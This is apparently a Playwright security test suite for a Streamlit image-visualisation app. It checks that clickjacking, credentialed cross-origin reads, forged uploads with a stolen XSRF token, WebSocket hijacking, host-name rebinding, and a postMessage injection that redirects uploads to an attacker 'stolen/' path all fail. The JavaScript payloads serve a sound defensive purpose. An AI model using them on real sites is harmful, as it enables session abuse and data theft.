"""Pages elsewhere against the app in a real Chromium; and its own pages with the policy on."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from io import BytesIO
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from PIL import Image
from playwright.sync_api import Browser, Page, expect

from cactiviz.ui.animate import texts as animate_texts
from tests.fixtures.browsing import (
    EVIL,
    PATIENCE_MS,
    Seen,
    ask_for_picture,
    at_rest,
    bring,
    until,
)
from tests.fixtures.sampling import long

pytestmark = pytest.mark.browser
Open = Callable[..., Page]
STEAL = "SET_FILE_UPLOAD_CLIENT_CONFIG"


@dataclass
class Attacker:
    """A page elsewhere, and what its server received.

    Attributes:
        port: On this computer.
        received: Methods and paths.
    """

    port: int = 0
    received: list[str] = field(default_factory=list)

    def page(self, host: str) -> str:
        return f"http://{host}:{self.port}/"


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    found = Attacker()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.received.append(f"{self.command} {self.path}")
            length = int(self.headers.get("content-length") or 0)
            self.rfile.read(length)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Access-Control-Allow-Methods", "*")
            self.send_header("Access-Control-Allow-Headers", "*")
            self.end_headers()
            self.wfile.write(b"<!doctype html><title>elsewhere</title><p>elsewhere</p>")

        do_POST = do_PUT = do_OPTIONS = do_GET

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    found.port = server.server_address[1]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield found
    server.shutdown()
    server.server_close()


@pytest.fixture(
    params=[pytest.param("localhost", marks=long), pytest.param("127.0.0.1", marks=long), EVIL]
)
def elsewhere(
    request: pytest.FixtureRequest, browser: Browser, attacker: Attacker
) -> Iterator[Page]:
    """A page of the attacker's, at another port or under another name too."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(attacker.page(request.param))
    yield page
    context.close()


@pytest.fixture(scope="module")
def victim(browser: Browser, app_address: str) -> Iterator[dict[str, str]]:
    """What an attacker could at most know of a session: its id, its token, a file of its."""
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(PATIENCE_MS)
    asked: list[str] = []
    page.on("request", lambda r: asked.append(r.url) if r.method == "PUT" else None)
    page.goto(f"{app_address}/?networks=cactinet&views=grad_cam")
    expect(page.locator(".box .cell").first).to_be_visible()
    ask_for_picture(page, "upload")
    bring(page, "mine.png", picture("red"))
    (upload,) = asked
    token = next(one["value"] for one in context.cookies() if "xsrf" in one.get("name", ""))
    film = context.new_page()  # the shortest that there is
    film.set_default_timeout(PATIENCE_MS)
    film.goto(f"{app_address}/animate?networks=cactinet&views=grad_cam&each=1")
    film.get_by_role("radio", name="MP4", exact=True).click()
    film.get_by_role("button", name="Make the MP4").click()
    source = film.locator("video[src]").get_attribute("src") or ""
    media = f"{app_address}{urlsplit(source).path}"
    assert context.request.get(media).ok and "/media/" in media
    yield {"upload": upload, "token": str(token), "media": media}
    context.close()


def picture(colour: str) -> bytes:
    data = BytesIO()
    Image.new("RGB", (90, 60), colour).save(data, "PNG")
    return data.getvalue()


EMBED = """async ([app]) => {
    const held = [];
    for (const [name, key] of [["iframe", "src"], ["object", "data"], ["embed", "src"],
                               ["iframe", "srcdoc"]]) {
        const element = document.createElement(name);
        element[key] = key === "srcdoc" ? `<iframe src="${app}"></iframe>` : app;
        document.body.append(element);
        held.push(element);
    }
    await new Promise((done) => setTimeout(done, 1500));
    return held.map((e) => { try { return e.contentDocument?.body?.innerText ?? ""; }
                             catch { return ""; } });
}"""


def test_no_page_can_embed_it(elsewhere: Page, app_address: str, seen: Seen) -> None:
    inside = elsewhere.evaluate(EMBED, [f"{app_address}/"])
    assert not any("cactiviz" in text.lower() for text in inside)
    assert all("app" not in frame.title() for frame in elsewhere.frames[1:])
    assert seen.lines(), "it asked for nothing, so nothing was tried"
    assert not seen.let_in()
    framed = [f for f in elsewhere.frames[1:] if f.locator("[data-testid=stApp]").count()]
    assert not framed


ASK = """async ([app, upload, token, media]) => {
    const tried = [];
    const read = async (what, url, given) => {
        try {
            const answer = await fetch(url, given);
            const body = await answer.text();
            tried.push([what, answer.type === "opaque" ? 0 : answer.status, body.length]);
        } catch { tried.push([what, -1, 0]); }
    };
    const form = () => { const f = new FormData(); f.append("file", new Blob(["x"]), "a.png");
                         return f; };
    for (const mode of ["cors", "no-cors"]) {
        const given = { mode, credentials: "include" };
        for (const path of ["/", "/_stcore/health", "/_stcore/host-config", "/_stcore/metrics"])
            await read(`GET ${path}`, app + path, given);
        await read("GET media", media, given);
        await read("POST upload", upload, { ...given, method: "POST", body: form() });
        if (mode === "cors") {
            await read("PUT upload", upload, { ...given, method: "PUT", body: form() });
            await read("PUT with token", upload, { ...given, method: "PUT", body: form(),
                                                   headers: { "X-Xsrftoken": token } });
            await read("DELETE upload", upload, { ...given, method: "DELETE" });
        }
    }
    navigator.sendBeacon(upload, "x");
    const shown = (name, url) => new Promise((done) => {
        const element = document.createElement(name);
        element.onload = element.onloadeddata = () => done([`${name}`, 200, 1]);
        element.onerror = () => done([`${name}`, -1, 0]);
        setTimeout(() => done([`${name}`, -2, 0]), 3000);
        if (name === "link") { element.rel = "stylesheet"; element.href = url; }
        else element.src = url;
        document.body.append(element);
    });
    tried.push(...await Promise.all(
        ["img", "video", "audio", "script", "link"].map((name) => shown(name, media))));
    const socket = (url, protocols) => new Promise((done) => {
        const one = new WebSocket(url, protocols);
        one.onopen = () => done(["socket", 101, 1]);
        one.onerror = () => done(["socket", -1, 0]);
    });
    const at = app.replace("http", "ws") + "/_stcore/stream";
    const session = new URL(upload).pathname.split("/").at(-2);
    tried.push(await socket(at), await socket(at, ["streamlit", token, session]));
    await new Promise((done) => {
        const frame = document.createElement("iframe");
        frame.name = "sink";
        const post = document.createElement("form");
        Object.assign(post, { method: "post", enctype: "multipart/form-data", target: "sink",
                              action: upload });
        document.body.append(frame, post);
        frame.onload = () => done();
        post.submit();
        setTimeout(done, 2000);
    });
    return tried;
}"""


def test_nothing_that_another_page_asks_is_answered(
    elsewhere: Page, app_address: str, victim: dict[str, str], seen: Seen
) -> None:
    given = [app_address, victim["upload"], victim["token"], victim["media"]]
    tried = elsewhere.evaluate(ASK, given)
    read = [one for one in tried if one[1] > 0 or one[2] > 0]
    assert not read, f"read by another page: {read}"
    lines = seen.lines()
    asked = {(one["kind"], one["method"]) for one in lines}
    assert {("http", "GET"), ("http", "POST"), ("websocket", "")} <= asked
    assert len(lines) > 20 and not seen.let_in(), "a request of another page was let in"


REBOUND = """async () => {
    const tried = [];
    for (const [method, path] of [["GET", "/"], ["GET", "/filters"], ["GET", "/_stcore/health"],
                                  ["PUT", "/_stcore/upload_file/a/b"], ["GET", "/media/a.png"]]) {
        const answer = await fetch(path, { method });
        tried.push(answer.status, answer.type === "basic" ? (await answer.text()).length < 200 : 0);
    }
    const socket = new WebSocket(`ws://${location.host}/_stcore/stream`, ["streamlit"]);
    tried.push(await new Promise((done) => {
        socket.onopen = () => done("open");
        socket.onerror = () => done("refused");
    }));
    return tried;
}"""


def test_under_another_name_it_is_not_there(browser: Browser, app_address: str, seen: Seen) -> None:
    port = urlsplit(app_address).port
    context = browser.new_context()
    page = context.new_page()
    answer = page.goto(f"http://{EVIL}:{port}/")
    assert answer is not None and answer.status == 421
    assert page.evaluate(REBOUND) == [421, True] * 5 + ["refused"]
    assert not seen.let_in() and {one["host"] for one in seen.lines()} == {f"{EVIL}:{port}"}
    context.close()


@long
@pytest.mark.parametrize("elsewhere", [EVIL], indirect=True)
def test_whoever_opens_it_can_tell_it_nothing(
    elsewhere: Page, app_address: str, attacker: Attacker, seen: Seen
) -> None:
    """The photograph went to whoever sent the page this message; the page showed it as usual."""
    attacker.received.clear()
    address = f"{app_address}/?networks=cactinet&views=grad_cam"
    tell = """([app, prefix, kind]) => {
        window.opened = window.open(app);
        const messages = [kind, "UPDATE_HASH", "SET_AUTH_TOKEN", "RERUN_SCRIPT", "STOP_SCRIPT"];
        window.telling = setInterval(() => {
            for (const type of messages)
                window.opened?.postMessage({ stCommVersion: 1, type, prefix, headers: {},
                                             hash: "#evil", authToken: "evil" }, "*");
        }, 50);
    }"""
    with elsewhere.expect_popup() as popup:
        elsewhere.evaluate(tell, [address, attacker.page("localhost") + "stolen/", STEAL])
    page = popup.value
    page.set_default_timeout(PATIENCE_MS)
    expect(page.locator(".box .cell").first).to_be_visible()
    assert elsewhere.evaluate("window.opened.closed"), "it can be reached from where it was opened"
    assert page.evaluate("window.opener") is None
    ask_for_picture(page, "upload")
    bring(page, "secret.png", picture("green"))
    puts = [one for one in seen.lines() if one["method"] == "PUT"]
    assert [(one["answer"], one["origin"]) for one in puts] == [(204, app_address)]
    assert not [one for one in attacker.received if "stolen" in one]
    assert "evil" not in page.url


# The app's own pages. `open_page` fails a test for any error in the console, which a violation of
# the policy is, and for any request to outside.


@long
@pytest.mark.parametrize(
    ("name", "complete"),
    [
        ("", ".box .cell"),
        ("filters", ".grid .cell"),
        ("neurons", ".grid .cell"),
        ("animate?each=1", ".frame.plays img"),
        ("gallery", ".grid .cell"),
        ("learn", "img"),
    ],
)
def test_each_page_works_with_the_policy_on(
    open_page: Open, name: str, complete: str, seen: Seen
) -> None:
    page = open_page(f"/{name}", moving=name.startswith("animate"))
    page.locator(complete).first.wait_for()
    at_rest(page)
    assert page.get_by_test_id("stException").count() == 0
    refused = [one for one in seen.lines() if one["answer"] in (403, 421, 500, 503)]
    assert not refused
    policy = page.evaluate("fetch('').then(a => a.headers.get('content-security-policy'))")
    assert "frame-ancestors 'none'" in policy and "connect-src 'self'" in policy


@long
def test_an_mp4_plays_and_downloads_and_no_other_page_has_it(
    open_page: Open, tmp_path: Path, browser: Browser, attacker: Attacker, seen: Seen
) -> None:
    page = open_page("/animate?each=1", moving=True)
    page.locator(".frame.plays").wait_for()
    page.get_by_role("radio", name="MP4", exact=True).click()
    page.get_by_role("button", name=animate_texts.film_make("mp4")).click()
    video = page.locator("video")
    video.wait_for()
    until(page, "document.querySelector('video').readyState >= 3")
    until(page, "document.querySelector('video').currentTime > 0.1")
    with page.expect_download() as saved:
        page.get_by_role("button", name="Download the MP4").click()
    saved.value.save_as(tmp_path / "film.mp4")
    assert (tmp_path / "film.mp4").read_bytes()[4:8] == b"ftyp"
    link = str(video.evaluate("video => video.currentSrc"))
    answer = page.request.get(link)
    assert answer.headers["cache-control"] == "no-store" and answer.body()[4:8] == b"ftyp"
    other = browser.new_context().new_page()
    other.goto(attacker.page("localhost"))
    assert (
        other.evaluate(
            """url => new Promise((done) => {
            const video = document.createElement("video");
            video.onloadeddata = () => done("plays");
            video.onerror = () => done("refused");
            video.src = url;
        })""",
            link,
        )
        == "refused"
    )
    asked = [one for one in seen.lines() if one["site"] == "cross-site" and one["into"] == "video"]
    assert asked and all(one["answer"] == 403 for one in asked)
    other.context.close()
